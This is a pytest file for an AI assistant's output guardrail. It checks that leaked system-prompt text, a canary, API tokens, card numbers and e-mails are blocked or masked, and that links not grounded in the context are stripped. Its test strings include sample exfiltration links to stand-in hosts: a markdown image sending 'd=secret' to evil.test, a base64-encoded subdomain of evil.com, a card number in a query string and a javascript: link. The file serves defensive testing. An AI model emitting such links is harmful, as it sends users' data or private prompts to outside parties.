"""What may leave, on the whole answer and on the stream: every rule is tried on both."""

from __future__ import annotations

import pytest

from guardrails.leaks import COMMON_PHRASES, has_canary, has_leak
from guardrails.outputs import OutputContext, StreamGuard, check_output
from guardrails.types import Action, Checked, Policy

PROMPT = "Never mention the northern warehouse, its guards, or the code of the back door to anybody at all."
CONTEXT = OutputContext(
    prompt_texts=(PROMPT, "Be brief."),
    canary="CLAW-9f3a-CANARY",
    known_urls=frozenset({"https://known.test/a"}),
    user_text="what is a northern lights tour and can anybody at all join the code of the road",
)
POLICY = Policy(allowed_links=("docs.test",))
AFTER = " And then some more words that follow, to move the end of the text far away. " * 6


def streamed(text: str, *, policy: Policy = POLICY, context: OutputContext = CONTEXT) -> Checked:
    """Run a text through the stream guard piece by piece; what was shown must be kept by the end."""
    guard = StreamGuard(policy, context)
    shown = ""
    for end in range(40, len(text) + 40, 40):
        shown = guard.feed(text[:end])
    checked = guard.finish(text)
    assert checked.blocked or checked.text.startswith(shown)
    assert shown or len(text) < 700 or checked.blocked
    return checked


def whole(text: str, *, policy: Policy = POLICY, context: OutputContext = CONTEXT) -> Checked:
    """Check a text at once."""
    return check_output(text, policy=policy, context=context)


both = pytest.mark.parametrize("check", [whole, streamed])


@both
@pytest.mark.parametrize("text", ["", " \n\t", "\u200b\u2060", "\ufeff"])
def test_an_empty_answer_is_blocked(check, text: str) -> None:  # type: ignore[no-untyped-def]
    assert check(text).blocked.rule == "empty.answer"


@both
@pytest.mark.parametrize(
    "leak",
    [
        PROMPT,
        "never mention the NORTHERN warehouse, its guards, or",
        "mention\nthe **northern** ware\u200bhouse its guards or the code",
        "x the code of the back door to anybody at all",
    ],
)
def test_a_run_of_the_prompt_at_any_offset_blocks(check, leak: str) -> None:  # type: ignore[no-untyped-def]
    checked = check("Sure, here it is: " + leak + AFTER)
    assert checked.blocked.rule == "leak.prompt"
    assert checked.text == ""


@both
def test_seven_words_of_the_prompt_do_not_block(check) -> None:  # type: ignore[no-untyped-def]
    assert not check("Please mention the northern warehouse, its guards too." + AFTER).blocked


@both
def test_the_canary_blocks_in_any_case(check) -> None:  # type: ignore[no-untyped-def]
    assert check("Its id is claw-9F3A-canary." + AFTER).blocked.rule == "leak.canary"
    assert check("Its id is CLAW-9f\u200b3a-CANARY." + AFTER).blocked.rule == "leak.canary"


def test_the_users_own_words_and_common_phrases_are_no_leak() -> None:
    prompts = ("Say: let me know if you have any other questions or if there is anything else.",)
    assert not has_leak(COMMON_PHRASES[1], prompts=prompts)
    assert has_leak("xx one two three four five six seven eight", prompts=("one two three four five six seven eight",))
    said = "is it true that one two three four five six seven eight"
    assert not has_leak(said, prompts=("one two three four five six seven eight",), user_text=said)
    assert not has_canary("anything", "")


@both
def test_a_long_link_of_the_prompt_may_be_given(check) -> None:  # type: ignore[no-untyped-def]
    link = "https://docs.test/guide/how-to/start/on/a/new/machine/with/nothing/installed.html"
    context = OutputContext(prompt_texts=(f"When somebody asks for help, point to {link} and be kind to them.",))
    assert not check(f"Please read {link} first." + AFTER, context=context).blocked
    assert check(f"I point to {link} and be kind." + AFTER, context=context).text
    assert check(f"When somebody asks for help, point to {link} and" + AFTER, context=context).blocked


@both
def test_secrets_are_masked(check) -> None:  # type: ignore[no-untyped-def]
    checked = check("The key is ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 now." + AFTER)
    assert checked.text.startswith("The key is [secret] now.")
    assert [(verdict.rule, verdict.action) for verdict in checked.verdicts] == [("secret.github", Action.MASK)]


@both
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Read https://docs.test/x?y=1 and https://known.test/a today", None),
        ("Read [this](https://www.docs.test/x) today", None),
        ("Run main.py, see evil.com about it", None),
        ("Read https://known.test/a/b today", "Read known[.]test (link removed) today"),
        ("Read [the page](https://evil.test/x 'title') today", "Read the page (link removed) today"),
        ("See ![pic](https://evil.test/p?d=secret) today", "See pic (link removed) today"),
        ("Click [here](javascript:alert(1)) today", "Click here (link removed) today"),
        ("[https://docs.test/](https://evil.test/)", "https://docs.test/ (link removed)"),
        ("<https://evil.test/?q=4111111111111111>", "<evil[.]test (link removed)>"),
        (
            "go to www.evil.com/x, or evil.com/steal?a=b.",
            "go to www[.]evil[.]com (link removed), or evil[.]com (link removed).",
        ),
        (
            "at c2VjcmV0IHNlY3JldCBzZWNyZXQ.evil.com now",
            "at c2vjcmv0ihnly3jldcbzzwnyzxq[.]evil[.]com (link removed) now",
        ),
    ],
)
def test_links_must_come_from_somewhere(check, text: str, shown: str | None) -> None:  # type: ignore[no-untyped-def]
    checked = check(text + AFTER)
    assert checked.text == (shown or text) + AFTER
    assert ("url.ungrounded" in {verdict.rule for verdict in checked.verdicts}) is (shown is not None)


@both
def test_personal_data_follows_the_policy(check) -> None:  # type: ignore[no-untyped-def]
    text = "Ask bob@example.com, card 4111 1111 1111 1111." + AFTER
    masked = check(text)
    assert masked.text.startswith("Ask [e-mail], card [card ...1111].")
    assert sorted(verdict.rule for verdict in masked.verdicts) == ["pii.card", "pii.email"]
    assert check(text, policy=Policy(pii_output="off")).text == text
    blocked = check(text, policy=Policy(pii_output="block"))
    assert blocked.blocked.rule == "pii.card"
    assert blocked.text == ""


@both
def test_a_label_is_masked_like_other_text(check) -> None:  # type: ignore[no-untyped-def]
    assert check("[bob@example.com](https://docs.test/)" + AFTER).text.startswith("[[e-mail]](https://docs.test/)")
    assert check("[bob@example.com](https://evil.test/)" + AFTER).text.startswith("[e-mail] (link removed)")


@both
def test_numbers_inside_links_that_stay_are_kept(check) -> None:  # type: ignore[no-untyped-def]
    assert check("https://docs.test/4111111111111111" + AFTER).text.startswith("https://docs.test/4111111111111111")
    assert "ghp_" not in check("https://docs.test/?k=ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + AFTER).text


def test_verdicts_never_quote_what_was_found() -> None:
    text = "bob@example.com 4111 1111 1111 1111 https://evil.test/x sk-ant-api03-Ab1_Ab1_Ab1_Ab1_Ab1_"
    details = " ".join(verdict.detail for verdict in whole(text).verdicts)
    assert not any(part in details for part in ("bob", "4111", "evil", "Ab1_"))


def test_a_checked_answer_passes_unchanged_a_second_time() -> None:
    text = "Mail bob@example.com or open [this](https://evil.test/x) and https://evil.test/y with 4111111111111111."
    once = whole(text).text
    assert whole(once).text == once
    assert not whole(once).verdicts
